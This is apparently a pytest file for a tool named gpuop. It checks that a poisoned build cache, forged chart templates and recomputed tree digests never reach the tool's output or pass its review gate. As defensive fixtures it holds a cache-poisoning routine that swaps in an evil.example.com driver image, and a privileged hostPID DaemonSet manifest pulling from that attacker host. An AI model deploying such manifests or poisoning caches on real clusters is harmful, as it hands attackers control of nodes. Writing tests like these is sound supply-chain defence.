"""What an attacker with limited write access can do to the output, and why it never reaches a green gate
(docs/review-gate.md): a digest or a cache written where an attacker can write is a hint for speed, never
evidence.

- A poisoned build-cache entry (the driver image swapped for evil.example.com/nvidia/driver, every checksum
  and digest in the entry recomputed): synth never writes it, into the output folder (a deleted cluster
  folder) nor into a fresh one; `validate`, `diff --exit-code` and `check` refuse an output carrying it.
- A chart template added to a cluster folder with its treeDigest in index.json recomputed, committed on a
  pull-request branch: synth repairs the folder; `validate`, `check --against main` and `merge` refuse it.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from conftest import run_gpuop
from test_fleet import make_fleet, summary_counts, tree

pytestmark = pytest.mark.slow       # small fleets compiled a few times (5-15 s each test)

EVIL = "evil.example.com/nvidia/driver"
GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.com", "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
HOSTPID = """apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: node-helper
  namespace: kube-system
spec:
  selector: {matchLabels: {app: node-helper}}
  template:
    metadata: {labels: {app: node-helper}}
    spec:
      hostPID: true
      containers:
      - name: helper
        image: evil.example.com/helper:1
        securityContext: {privileged: true}
"""


def git(w: Path, *args: str) -> str:
    proc = subprocess.run(["git", *args], cwd=w, env={**os.environ, **GIT_ENV}, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


def synth(w: Path, *extra: str):
    return run_gpuop("synth", "-o", "dist", "--cache", "cache", "--no-progress", *extra, cwd=w, check=True)


@pytest.fixture(scope="module")
def origin(tmp_path_factory) -> Path:
    w = make_fleet(tmp_path_factory.mktemp("trust") / "origin", n=4)
    synth(w)
    (w / ".gitignore").write_text("cache/\n")
    git(w, "init", "-q", "-b", "main")
    git(w, "add", "-A")
    git(w, "commit", "-q", "-m", "fleet")
    return w


@pytest.fixture
def w(origin, tmp_path) -> Path:
    """A clone on a pull-request branch, with the origin's build cache (a shared CI cache) beside it."""
    git(tmp_path, "clone", "-q", str(origin), "w")
    w = tmp_path / "w"
    git(w, "checkout", "-q", "-b", "pr")
    shutil.copytree(origin / "cache", w / "cache")
    return w


def poison(cache: Path, name: str, recompute_claim: bool) -> None:
    """Rewrite the cache entry of `name` as an attacker would: evil driver image, checksums recomputed; with
    `recompute_claim`, the tree digest the header claims too (the attacker knows the algorithm)."""
    from gpuop.outputs.cluster import ClusterBuild, expected_tree
    from gpuop.pipeline.cache import decode_entry, encode_entry

    for head_path in (cache / "builds").rglob("*.head"):
        head = decode_entry(head_path.read_bytes())
        if head["build"]["name"] != name:
            continue
        files_path = head_path.with_suffix(".files")
        body = decode_entry(files_path.read_bytes(), files=True)
        files = {p: t.replace("nvcr.io/nvidia/driver", EVIL) for p, t in body.pop("files").items()}
        assert any(EVIL in t for t in files.values())
        files_path.write_bytes(encode_entry(body, files))
        if recompute_claim:
            build = ClusterBuild(**{**head["build"], "files": files})
            head["trees"] = {v: expected_tree(build, v) for v in head["trees"]}
            head_path.write_bytes(encode_entry(head))
        return
    raise AssertionError(f"no cache entry for {name}")


def evil_anywhere(folder: Path) -> bool:
    return any(EVIL.encode() in p.read_bytes() for p in folder.rglob("*") if p.is_file())


@pytest.mark.parametrize("recompute_claim", [False, True])
def test_a_poisoned_cache_entry_is_never_written_into_the_output(w, origin, recompute_claim):
    clean = tree(w / "dist")
    poison(w / "cache", "c01", recompute_claim)
    shutil.rmtree(w / "dist" / "c01")                    # deleting the folder invites a "repair" from the cache
    proc = synth(w)
    assert summary_counts(proc) == (1, 0, 3), proc.stderr      # c01 compiled; the others kept on disk
    assert tree(w / "dist") == clean and not evil_anywhere(w / "dist")
    proc = run_gpuop("synth", "-o", "fresh", "--cache", "cache", "--no-progress", cwd=w, check=True)
    assert summary_counts(proc)[0] == 4                  # a fresh folder: nothing vouches for the cache: compiled
    assert tree(w / "fresh") == clean


def test_an_output_carrying_the_poisoned_entry_fails_validate_diff_and_check(w):
    """What an older gpuop wrote from that entry (treeDigest recomputed): every step of the gate refuses it."""
    from gpuop.outputs.cluster import disk_tree_digest

    for f in (w / "dist" / "c01").rglob("*.yaml"):
        f.write_text(f.read_text().replace("nvcr.io/nvidia/driver", EVIL))
    index = json.loads((w / "dist" / "index.json").read_text())
    for c in index["clusters"]:
        if c["name"] == "c01":
            c["treeDigest"] = disk_tree_digest(w / "dist", "c01")
    (w / "dist" / "index.json").write_text(json.dumps(index, indent=2, sort_keys=True) + "\n")
    assert evil_anywhere(w / "dist")
    proc = run_gpuop("validate", "dist", cwd=w)
    assert proc.returncode == 2 and "dist/c01/manifests/" in proc.stderr, proc.stderr
    proc = run_gpuop("diff", "--exit-code", cwd=w)
    assert proc.returncode == 3 and EVIL in proc.stdout, proc.stdout + proc.stderr
    git(w, "commit", "-q", "-am", "poisoned output")
    proc = run_gpuop("check", "--against", "origin/main", cwd=w)
    assert proc.returncode == 3, proc.stderr
    assert "\n  c01: " in proc.stderr                    # selected: its index entry and folder differ from the base
    assert EVIL in proc.stdout                            # the review shows the image change


def forge_template(out: Path, name: str) -> None:
    """A privileged hostPID DaemonSet added as a chart template, the cluster's treeDigest recomputed."""
    from gpuop.outputs.cluster import disk_tree_digest

    (out / name / "chart" / "templates" / "node-helper.yaml").write_text(HOSTPID)
    index = json.loads((out / "index.json").read_text())
    for c in index["clusters"]:
        if c["name"] == name:
            c["treeDigest"] = disk_tree_digest(out, name)
    (out / "index.json").write_text(json.dumps(index, indent=2, sort_keys=True) + "\n")


def test_a_forged_template_with_its_tree_digest_recomputed_is_repaired_and_refused(w):
    clean = tree(w / "dist")
    forge_template(w / "dist", "c02")
    git(w, "add", "-A")
    git(w, "commit", "-q", "-m", "forged")
    proc = run_gpuop("validate", "dist", cwd=w)           # against origin/HEAD by default
    assert proc.returncode == 2, proc.stderr
    assert "dist/c02/chart/templates/node-helper.yaml: not written by gpuop" in proc.stderr
    proc = run_gpuop("check", "--against", "origin/main", cwd=w)
    assert proc.returncode == 3, proc.stderr
    assert "node-helper.yaml" in proc.stdout              # the review names the added template
    for _ in range(2):                                    # warm cache: repaired, and stays repaired
        synth(w)
        assert tree(w / "dist") == clean
    git(w, "checkout", "-q", "--", "dist")
    shutil.rmtree(w / "cache")                            # a fresh clone: no cache at all
    synth(w)
    assert tree(w / "dist") == clean


def test_merge_refuses_a_shard_carrying_the_forged_template(w):
    run_gpuop("synth", "--shard", "1/1", "-o", "shard1", "--no-cache", "--no-progress", cwd=w, check=True)
    forge_template(w / "shard1", "c03")
    proc = run_gpuop("merge", "shard1", "-o", "merged", cwd=w)
    assert proc.returncode == 2, proc.stderr
    assert "shard1/c03/chart/templates/node-helper.yaml: not written by gpuop" in proc.stderr
    assert not (w / "merged").exists()


def test_an_index_read_beside_its_base_is_the_full_parse_or_refused():
    """The gate parses a pull request's index.json item by item beside the base's (write._parse_beside): on a
    printed index it equals json.loads; an item split inside a nested value, a changed text around the list or
    a deep item go to the full, bounded parse."""
    import json as _json

    from gpuop.errors import UserError
    from gpuop.pipeline.write import _parse_beside, read_index

    def printed(doc):
        return (_json.dumps(doc, indent=2, sort_keys=True, ensure_ascii=False) + "\n").encode()

    item = {"name": "a", "chart": "a/chart", "chartVersion": "0.1.0", "package": "charts/a-0.1.0.tgz",
            "manifests": "a/manifests", "overlay": "a/overlay", "argocd": "a/argocd", "flux": "a/flux",
            "namespace": "gpu-operator", "kubeVersion": "1.34", "nested": [{"x": 1}, {"y": [2, {"z": 3}]}]}
    base = {"apiVersion": "gpuop/v1alpha1", "kind": "Index", "gpuop": "1",
            "clusters": [dict(item, name=n, chart=f"{n}/chart") for n in ("a", "b", "c")]}
    head = _json.loads(_json.dumps(base))
    head["clusters"][1]["chartVersion"] = "0.1.1"
    head["clusters"].append(dict(item, name="d"))
    got = _parse_beside(Path("index.json"), printed(head), printed(base), base)
    assert got == head
    assert got["clusters"][0] is base["clusters"][0]            # unchanged items: the base's parse
    # a nested list printed at the items' indentation: the split lands inside it and the pieces do not parse
    odd = printed(head).replace(b'"nested": [\n        {', b'"nested": [\n    {\n    },\n    {\n        {', 1)
    assert _parse_beside(Path("index.json"), odd, printed(base), base) is None
    # text around the list that is not the base's
    assert _parse_beside(Path("index.json"), printed({**head, "gpuop": "2"}), printed(base), base) is None
    # a deep new item: refused by the bounded parse, as the whole document would be
    nested: list = []
    for _ in range(80):
        nested = [nested]
    deep = dict(item, name="e", nested=nested)
    assert _parse_beside(Path("index.json"), printed({**head, "clusters": head["clusters"] + [deep]}),
                         printed(base), base) is None
    with pytest.raises(UserError):
        read_index(Path("."), printed({**head, "clusters": head["clusters"] + [deep]}), beside=(printed(base), base))
